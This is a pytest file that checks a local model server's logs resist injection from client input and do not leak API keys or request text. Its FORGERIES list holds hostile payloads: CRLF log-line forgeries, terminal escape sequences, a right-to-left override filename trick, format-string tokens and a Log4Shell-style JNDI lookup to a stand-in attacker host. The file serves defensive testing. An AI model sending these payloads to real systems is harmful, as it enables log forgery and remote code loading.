"""What clients send forges no line of the log, and no control sequence of a terminal gets into it."""

from __future__ import annotations

import logging
import re
import time
from collections.abc import Callable, Iterator

import pytest

from inputs.live_server import LiveServer

LINE = "12:00:00 GET /v1/models 200 0.01 s"
FORGERIES = (
    f"\n{LINE}",
    f"\r\n{LINE}",
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\u2028" + LINE,
    "\x85" + LINE,
    "\u202egpj.exe",
    "\x00",
    "%s %d %(message)s {0}",
    "${jndi:ldap://evil.example/a}",
)
SECRET, KEY = "the-secret-words", "the-secret-key"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


class Lines(logging.Handler):
    """Collects what is logged, as it would be written."""

    def __init__(self) -> None:
        super().__init__()
        self.setFormatter(logging.Formatter("%(message)s"))
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.fixture
def logged() -> Iterator[list[str]]:
    handler, loggers = Lines(), [logging.getLogger(name) for name in ("qwen35_gguf.server", "uvicorn.error")]
    before = [logger.level for logger in loggers]
    for logger in loggers:
        logger.addHandler(handler)
        logger.setLevel(logging.INFO)
    try:
        yield handler.lines
    finally:
        for logger, level in zip(loggers, before, strict=True):
            logger.removeHandler(handler)
            logger.setLevel(level)


def check(lines: list[str], *, texts: bool) -> None:
    assert lines
    for line in lines:
        assert CONTROL.search(line) is None, ascii(line)
        assert "\n" not in line or line.startswith("Traceback") or "  File " in line
        assert KEY not in line
        assert texts or SECRET not in line


@pytest.fixture(scope="module", params=[False, True], ids=["usual", "log-requests"])
def served(request: pytest.FixtureRequest, start: Callable[..., LiveServer]) -> tuple[LiveServer, bool]:
    """A server, and whether it logs what requests ask."""
    return start(api_keys=(KEY,), log_requests=request.param), request.param


@pytest.mark.parametrize("forgery", FORGERIES, ids=ascii)
def test_bodies(forgery: str, logged: list[str], served: tuple[LiveServer, bool]) -> None:
    guarded, texts = served
    key = {"Authorization": f"Bearer {KEY}"}
    content = SECRET + forgery
    messages = [{"role": "user", "content": content}]
    for body in (
        {"messages": messages, "max_tokens": 1},
        {"messages": messages, "max_tokens": 1, "stream": True},
        {"model": content, "messages": messages},
        {"messages": [{"role": content, "content": "x"}]},
        {"messages": messages, content: content, "user": content, "temperature": content},
    ):
        guarded.post("/v1/chat/completions", body, **key)
    guarded.post("/v1/completions", {"prompt": content, "max_tokens": 1}, **key)
    check(logged, texts=texts)


@pytest.mark.slow
@pytest.mark.parametrize("forgery", FORGERIES, ids=ascii)
def test_the_first_line_and_the_headers(forgery: str, logged: list[str], send: Callable[[bytes], bytes]) -> None:
    raw = (SECRET + forgery).encode()
    escaped = b"".join(b"%%%02x" % byte for byte in raw)
    for target in (b"/" + raw, b"/" + escaped, b"/v1/models?q=" + escaped, b"/v1/models/" + escaped):
        send(b"GET " + target + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    for name in (b"User-Agent", b"Referer", b"X-Request-Id", b"X-Forwarded-For", b"Authorization"):
        line = name + b": " + raw
        send(b"GET /health HTTP/1.1\r\nHost: localhost\r\n" + line + b"\r\nConnection: close\r\n\r\n")
    send(b"GE" + raw + b" /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    check(logged, texts=False)


def test_a_fault_does_not_log_what_was_sent(
    logged: list[str], server: LiveServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The message of an unexpected exception may have a client's text in it: its place alone is logged."""

    def fail(*_: object, **__: object) -> None:
        raise RuntimeError(SECRET)

    monkeypatch.setattr("qwen35_gguf.server.api.openai_chat.check_messages", fail)
    answer = server.post("/v1/chat/completions", {"messages": []})
    assert answer.status == 500
    assert SECRET not in answer.body.decode()
    assert any("RuntimeError" in line for line in logged)
    check(logged, texts=False)


def test_methods_that_clients_make_up(server: LiveServer, logged: list[str]) -> None:
    assert server.ask("A" * 60_000, "/health").status == 405
    end = time.monotonic() + 20  # a request is logged after its answer
    while not any("(other) /health 405" in line for line in logged):
        assert time.monotonic() < end, logged
        time.sleep(0.01)
    assert max(map(len, logged)) < 200
